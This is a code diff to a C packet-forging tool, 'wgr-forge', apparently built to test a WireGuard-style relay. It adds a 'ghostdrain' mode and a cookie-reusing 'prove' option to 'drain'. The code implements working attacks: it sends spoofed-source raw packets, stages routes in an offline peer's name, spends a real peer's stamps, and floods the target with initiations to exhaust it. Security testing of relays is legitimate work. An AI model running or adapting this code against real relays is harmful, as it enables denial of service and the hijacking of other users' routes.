@@ -124,7 +124,7 @@
  * to A, A sends the first data on it. Repeats every 5 s for SECONDS (default
  * one round). Prints how many rounds the relay passed on; exits 0.
  *
- *   wgr-forge drain ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_VICTIM SECONDS PPS
+ *   wgr-forge drain ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_VICTIM SECONDS PPS [prove]
  *
  * A spoofer spends a real peer's stamps at a loaded target (helper-84): it
  * stages as spoofstage does, the response "from" SPOOF_ADDR:SPOOF_PORT, where
@@ -134,9 +134,22 @@
  * of A's initiations (its stagings' too) has an ephemeral key that begins with
  * the bytes de ad be ef (udp[16:4] == 0xdeadbeef), so that a capture tells them
  * from a real peer's. VICTIM may be an offline peer: the staging then gives it
- * a binding at A. Needs CAP_NET_RAW. Prints how many stagings the relay passed
- * on and how many initiations A sent; exits 0. SIGTERM ends it early, with its
+ * a binding at A. With "prove", A keeps the relay's cookie from its cookie
+ * replies and puts the relay's mac2 on its initiations (renewed after 60 s):
+ * it shows the relay that it receives at its address. Needs CAP_NET_RAW.
+ * Prints how many stagings the relay passed on and how many initiations A
+ * sent, and how many with mac2; exits 0. SIGTERM ends it early, with its
  * report.
+ *
+ *   wgr-forge ghostdrain ADDR PORT GHOST_ADDR GHOST_PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_GHOST SECONDS PPS
+ *
+ * drain, blind (helper-86): socket A is GHOST_ADDR:GHOST_PORT, forged, an
+ * address the attacker never receives at (one in a real peer's network).
+ * Every 30 s it stages a route from there in GHOST's name (an offline peer: the
+ * staging gives it a binding there) without seeing whether the relay took it:
+ * the initiation and the data from raw sockets, the response "from"
+ * SPOOF_ADDR:SPOOF_PORT. In between, PPS marked initiations a second "from" A.
+ * Needs CAP_NET_RAW. Prints what it sent; exits 0. SIGTERM ends it early.
  *
  *   wgr-forge steal ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT PUB_Q PUB_V SECONDS
  *
@@ -1466,55 +1479,158 @@ static int spoofstage(int argc, char **argv)
 	return 0;
 }
 
-/* wgr-forge drain: see the top of this file. */
-static int drain(int argc, char **argv)
-{
-	struct sockaddr_storage to;
-	struct timespec next;
-	struct spoofer s;
-	uint8_t k[2][32], msg[1600];
-	long seconds, pps, stagings = 0, passed = 0, sent = 0;
-	double start = now_s(), restage = 0;
-	socklen_t len;
-	int a, ret;
+/*
+ * Where drain's initiations come from: socket A, a UDP socket of its own, or
+ * (ghostdrain) a forged source the attacker never receives at. @prove: A
+ * initiates with the relay's mac2 once it has the relay's cookie (a cookie
+ * reply to one of A's initiations without it), as a socket that receives at
+ * its address can.
+ */
+struct drainer {
+	int a;
+	struct spoofer *ghost;
+	bool prove;
+	uint8_t cookie[16];
+	double cookie_time;
+	long stagings, passed, sent, with_mac2;
+};
 
-	if (argc != 10 || !(len = parse_ep(&to, argv[2], argv[3])) || !parse_keys(k, argv + 6, 2) ||
-	    (seconds = strtol(argv[8], NULL, 10)) <= 0 || seconds > 3600 ||
-	    (pps = strtol(argv[9], NULL, 10)) <= 0 || pps > 1000) {
-		fprintf(stderr, "usage: wgr-forge drain ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET "
-				"PUB_VICTIM SECONDS(1..3600) PPS(1..1000)\n");
-		return 2;
+static bool drain_send(struct drainer *d, const uint8_t *msg, size_t len)
+{
+	if (d->ghost)
+		return !spoofer_send(d->ghost, msg, len);
+	return send(d->a, msg, len, 0) == (ssize_t)len;
+}
+
+/*
+ * ghostdrain's staging, blind: a marked initiation to @k[0] "from" the ghost's
+ * socket, a response naming @k[1] "from" @s's forged source, and the first data
+ * and three more "from" the ghost's socket. Nothing comes back to the attacker,
+ * so it cannot tell whether the relay took it. Return: 0, or -1 if a raw socket
+ * failed.
+ */
+static int blind_stage_once(struct drainer *d, struct spoofer *s, uint8_t k[2][32], uint8_t *msg)
+{
+	uint32_t s_index = marked_initiation(msg, k[0]), r_index;
+
+	if (!drain_send(d, msg, 148))
+		return -1;
+	usleep(100000);
+	r_index = make_response(msg, s_index, k[1]);
+	if (spoofer_send(s, msg, 92))
+		return -1;
+	for (int i = 0; i <= 3; i++) {
+		usleep(i ? 300000 : 100000);
+		make_data(msg, r_index, (uint64_t)i);
+		if (!drain_send(d, msg, 32))
+			return -1;
 	}
-	ret = spoofer_open(&s, argv[4], argv[5], argv[2], argv[3]);
-	if (ret)
-		return ret;
-	a = stage_socket(&to, len);
+	return 0;
+}
+
+/* Read what came back to A: keep the relay's cookie (@prove) and drop the rest. */
+static void drain_read(struct drainer *d, const uint8_t *pub)
+{
+	uint8_t msg[1600];
+	ssize_t n;
+
+	if (d->ghost)
+		return;
+	while ((n = recv(d->a, msg, sizeof(msg), MSG_DONTWAIT)) > 0)
+		if (d->prove && n == 64 && msg[0] == 3) {
+			cookie_open(d->cookie, msg, pub);
+			d->cookie_time = now_s();
+		}
+}
+
+/*
+ * drain and ghostdrain: stage a route from A in @k[1]'s name that ends at @s's
+ * forged source, again 30 s after one passed (or blind: every 30 s), 5 s after
+ * one did not; in between, @pps marked initiations a second along it.
+ */
+static int drain_run(struct drainer *d, struct spoofer *s, uint8_t k[2][32], long seconds,
+		     long pps)
+{
+	double start = now_s(), restage = 0;
+	struct timespec next;
+	uint8_t msg[1600];
+	int ret;
+
 	signal(SIGTERM, slot_term);
 	clock_gettime(CLOCK_MONOTONIC, &next);
 	while (!slot_stop && now_s() - start < seconds) {
 		if (now_s() >= restage) {
-			stagings++;
-			ret = spoof_stage_once(a, &s, k, true, msg, sizeof(msg));
+			d->stagings++;
+			ret = d->ghost ? blind_stage_once(d, s, k, msg) :
+					 spoof_stage_once(d->a, s, k, true, msg, sizeof(msg));
 			if (ret < 0)
 				return 1;
-			passed += ret;
+			d->passed += ret;
 			/* Its data keeps the session live for minutes: again in 30 s. */
-			restage = now_s() + (ret ? 30 : 5);
+			restage = now_s() + (ret || d->ghost ? 30 : 5);
 			clock_gettime(CLOCK_MONOTONIC, &next);
 			continue;
 		}
 		marked_initiation(msg, k[0]);
-		if (send(a, msg, 148, 0) == 148)
-			sent++;
-		/* Whatever comes back (cookie replies, copies) is not read. */
-		while (recv(a, msg, sizeof(msg), MSG_DONTWAIT) > 0)
-			;
+		/* A cookie older than 60 s is renewed: one without mac2 asks for it. */
+		if (d->cookie_time && now_s() - d->cookie_time < 60) {
+			set_mac2(msg, d->cookie);
+			d->with_mac2++;
+		}
+		if (drain_send(d, msg, 148))
+			d->sent++;
+		drain_read(d, k[0]);
 		next_tick(&next, pps);
 		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
 	}
-	printf("drain: %ld stagings, %ld passed on by the relay; %ld initiations along them\n",
-	       stagings, passed, sent);
 	return 0;
+}
+
+/* wgr-forge drain and ghostdrain: see the top of this file. */
+static int drain(int argc, char **argv, bool blind)
+{
+	int base = blind ? 6 : 4, nargs = base + 6;
+	struct drainer d = { .a = -1 };
+	struct sockaddr_storage to;
+	struct spoofer s, ghost;
+	uint8_t k[2][32];
+	long seconds, pps;
+	socklen_t len;
+	int ret;
+
+	if ((argc != nargs && (blind || argc != nargs + 1 || strcmp(argv[nargs], "prove"))) ||
+	    !(len = parse_ep(&to, argv[2], argv[3])) || !parse_keys(k, argv + base + 2, 2) ||
+	    (seconds = strtol(argv[base + 4], NULL, 10)) <= 0 || seconds > 3600 ||
+	    (pps = strtol(argv[base + 5], NULL, 10)) <= 0 || pps > 1000) {
+		if (blind)
+			fprintf(stderr, "usage: wgr-forge ghostdrain ADDR PORT GHOST_ADDR GHOST_PORT "
+					"SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_GHOST SECONDS(1..3600) "
+					"PPS(1..1000)\n");
+		else
+			fprintf(stderr, "usage: wgr-forge drain ADDR PORT SPOOF_ADDR SPOOF_PORT "
+					"PUB_TARGET PUB_VICTIM SECONDS(1..3600) PPS(1..1000) [prove]\n");
+		return 2;
+	}
+	ret = spoofer_open(&s, argv[base], argv[base + 1], argv[2], argv[3]);
+	if (ret)
+		return ret;
+	if (blind) {
+		ret = spoofer_open(&ghost, argv[4], argv[5], argv[2], argv[3]);
+		if (ret)
+			return ret;
+		d.ghost = &ghost;
+	} else {
+		d.a = stage_socket(&to, len);
+		d.prove = argc == nargs + 1;
+	}
+	ret = drain_run(&d, &s, k, seconds, pps);
+	if (blind)
+		printf("ghostdrain: %ld blind stagings; %ld initiations along them\n", d.stagings,
+		       d.sent);
+	else
+		printf("drain: %ld stagings, %ld passed on by the relay; %ld initiations along them,"
+		       " %ld with the relay's mac2\n", d.stagings, d.passed, d.sent, d.with_mac2);
+	return ret;
 }
 
 /* wgr-forge steal: see the top of this file. */
@@ -2016,8 +2132,8 @@ int main(int argc, char *argv[])
 		return thinflood(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "spoofstage"))
 		return spoofstage(argc, argv);
-	if (argc >= 2 && !strcmp(argv[1], "drain"))
-		return drain(argc, argv);
+	if (argc >= 2 && (!strcmp(argv[1], "drain") || !strcmp(argv[1], "ghostdrain")))
+		return drain(argc, argv, !strcmp(argv[1], "ghostdrain"));
 	if (argc >= 2 && !strcmp(argv[1], "steal"))
 		return steal(argc, argv, STEAL_ROAM);
 	if (argc >= 2 && !strcmp(argv[1], "stealback"))
@@ -2085,7 +2201,9 @@ int main(int argc, char *argv[])
 				"       wgr-forge spoofstage ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET "
 				"PUB_VICTIM [SECONDS]\n"
 				"       wgr-forge drain ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_VICTIM "
-				"SECONDS PPS\n"
+				"SECONDS PPS [prove]\n"
+				"       wgr-forge ghostdrain ADDR PORT GHOST_ADDR GHOST_PORT SPOOF_ADDR "
+				"SPOOF_PORT PUB_TARGET PUB_GHOST SECONDS PPS\n"
 				"       wgr-forge mac2junk|mac2for ADDR PORT SECONDS PPS NPORTS PUBKEY [FROM [NPREFIXES]]\n"
 				"       wgr-forge cookieprobe ADDR PORT PUBKEY [SRCPORT]\n");
 		return 2;
